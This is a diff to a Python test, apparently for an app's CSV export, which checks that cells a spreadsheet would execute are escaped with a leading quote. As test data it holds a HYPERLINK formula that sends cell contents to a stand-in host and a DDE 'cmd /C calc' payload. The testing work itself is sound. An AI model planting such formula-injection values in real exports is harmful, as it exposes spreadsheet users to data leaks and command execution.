@@ -290,7 +290,8 @@ def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, pack_co
     protocol = pack_copy / "protocols" / "chair-stand-30s.yaml"
     text = protocol.read_text(encoding="utf-8")
     title = next(line for line in text.splitlines() if line.startswith("title: "))
-    protocol.write_text(text.replace(title, 'title: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Open\\")"', 1),
+    # (no digit: a pack's test words type no number, legapp.content.measured)
+    protocol.write_text(text.replace(title, 'title: "=HYPERLINK(\\"http://x.example/?\\"&B,\\"Open\\")"', 1),
                         encoding="utf-8")
     hostile = load_pack(pack_copy)
     chair = next(r for r in sample_records() if r.test == "chair_stand_30s")
@@ -298,7 +299,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, pack_co
                for n, start in enumerate(("=", "+", "-", "@", "\t", "\r"))]
     export.write_csv(records, tmp_path / "a.csv", hostile)
     _header, *rows = _read(tmp_path / "a.csv")
-    assert {row[2] for row in rows} == {'\'=HYPERLINK("http://x.example/?"&A1,"Open")'}
+    assert {row[2] for row in rows} == {'\'=HYPERLINK("http://x.example/?"&B,"Open")'}
     assert sorted(row[7] for row in rows) == sorted("'" + start + "cmd|' /C calc'!A0"
                                                     for start in ("=", "+", "-", "@", "\t", "\r"))
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
